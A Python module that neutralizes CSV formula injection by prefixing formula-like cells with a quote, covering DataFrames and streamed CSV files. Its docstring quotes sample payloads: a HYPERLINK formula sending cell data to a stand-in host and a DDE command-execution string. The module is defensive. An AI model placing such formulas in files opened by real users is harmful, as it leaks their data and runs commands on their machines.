"""CSV cells a spreadsheet would run as formulas are written as text (CSV or formula injection).

A customer id such as ``=HYPERLINK("http://x/?"&A1,"click")``, ``+cmd|' /C calc'!A0`` or ``@SUM(1)``
in a CSV file becomes a live formula when the file is opened in Excel, LibreOffice or Google
Sheets. OWASP's rule (CSV Injection, https://owasp.org/www-community/attacks/CSV_Injection):
a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a
single quote, which spreadsheets read as "this cell is text" and do not show; the CSV writer quotes
a cell that holds the separator or a double quote (doubling the quote).

A cell that is a plain number (``-12.5``, ``+3``, ``1e-5``) is no formula and is kept as it is, so
negative amounts stay numbers. Prefixing is idempotent: a neutralized cell begins with ``'`` and is
not changed again. Column names are cells too.

A carriage return *inside* a cell needs quotes, but Python's CSV writer with ``\n`` line ends does
not quote it (it quotes only the characters of its line terminator), so a reader would split the
row there. :func:`line_end` therefore gives ``\r\n`` for a table with such a cell (then the cell
is quoted) and ``\n`` otherwise, and :func:`neutralize_csv` writes such rows with ``\r\n``.

:func:`neutralize` does one cell, :func:`neutralize_frame` every text cell, column name and index
label of a DataFrame, and :func:`neutralize_csv` a CSV file written by another program (DuckDB,
Spark), streamed row by row.
"""
from __future__ import annotations

import csv
import re
from typing import TYPE_CHECKING

if TYPE_CHECKING:                    # pandas is imported where a frame is handled (``relmkt`` starts fast)
    import pandas as pd

#: The first characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
_STARTS = re.compile(r"^[=+\-@\t\r]")
_NUMBER_FULL = r"^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$"


def needs_quote(text: str) -> bool:
    """True when a spreadsheet would read ``text`` as a formula."""
    return bool(text) and text[0] in FORMULA_START and not _NUMBER.fullmatch(text)


def neutralize(value):
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula; any
    other value unchanged."""
    if isinstance(value, str) and needs_quote(value):
        return "'" + value
    return value


def _series(s: pd.Series) -> tuple[pd.Series, int]:
    import pandas as pd

    if not (pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s)):
        return s, 0
    is_text = s.map(lambda v: isinstance(v, str)).astype(bool)
    if not is_text.any():
        return s, 0
    text = s[is_text].astype(str)
    bad = text.str.contains(_STARTS) & ~text.str.match(_NUMBER_FULL)
    if not bad.any():
        return s, 0
    out = s.copy()
    out.loc[bad[bad].index] = "'" + text[bad]
    return out, int(bad.sum())


def neutralize_frame(df: pd.DataFrame) -> tuple[pd.DataFrame, int]:
    """A copy of ``df`` whose text cells, column names and index labels are neutralized, and the
    number of cells changed. Numeric, date and boolean columns are left as they are."""
    import pandas as pd

    out = df.copy()
    changed = 0
    names = [neutralize(c) for c in out.columns]
    changed += sum(isinstance(a, str) and a != b for a, b in zip(names, out.columns))
    out.columns = names
    positions = range(out.shape[1])
    for i in positions:
        col, n = _series(out.iloc[:, i])
        if n:
            out.isetitem(i, col)
            changed += n
    if isinstance(out.index, pd.MultiIndex):
        levels = []
        for level in range(out.index.nlevels):
            values, n = _series(pd.Series(out.index.get_level_values(level)))
            levels.append(values)
            changed += n
        out.index = pd.MultiIndex.from_arrays(levels, names=[neutralize(n) for n in out.index.names])
    else:
        values, n = _series(pd.Series(out.index, dtype=out.index.dtype))
        if n:
            out.index = pd.Index(values, name=out.index.name)
            changed += n
        out.index.name = neutralize(out.index.name)
    return out, changed


def line_end(df: pd.DataFrame) -> str:
    """``"\\r\\n"`` when a text cell, column name or index label of ``df`` holds a carriage return
    (so that the CSV writer quotes it), else ``"\\n"``."""
    import pandas as pd

    def has_cr(values) -> bool:
        return any(isinstance(v, str) and "\r" in v for v in values)

    text_index = isinstance(df.index, pd.MultiIndex) or not pd.api.types.is_numeric_dtype(df.index)
    if has_cr(df.columns) or has_cr(df.index.names) or (text_index and has_cr(df.index.to_flat_index())):
        return "\r\n"
    for i in range(df.shape[1]):
        s = df.iloc[:, i]
        if (pd.api.types.is_object_dtype(s) or pd.api.types.is_string_dtype(s)) and has_cr(s.dropna()):
            return "\r\n"
    return "\n"


def neutralize_csv(src, dst, encoding: str = "utf-8") -> int:
    """Copy the CSV file ``src`` to ``dst`` with every formula-like cell neutralized, row by row
    (any size). Returns the number of cells changed. ``dst`` is written with ``\\n`` line ends (a row
    with a carriage return in a cell with ``\\r\\n``, so that the cell is quoted)."""
    changed = 0
    with open(src, newline="", encoding=encoding) as fin, open(dst, "w", newline="", encoding=encoding) as fout:
        writer, writer_crlf = csv.writer(fout, lineterminator="\n"), csv.writer(fout, lineterminator="\r\n")
        for row in csv.reader(fin):
            for i, cell in enumerate(row):
                if cell and cell[0] in FORMULA_START and not _NUMBER.fullmatch(cell):
                    row[i] = "'" + cell
                    changed += 1
            (writer_crlf if any("\r" in cell for cell in row) else writer).writerow(row)
    return changed
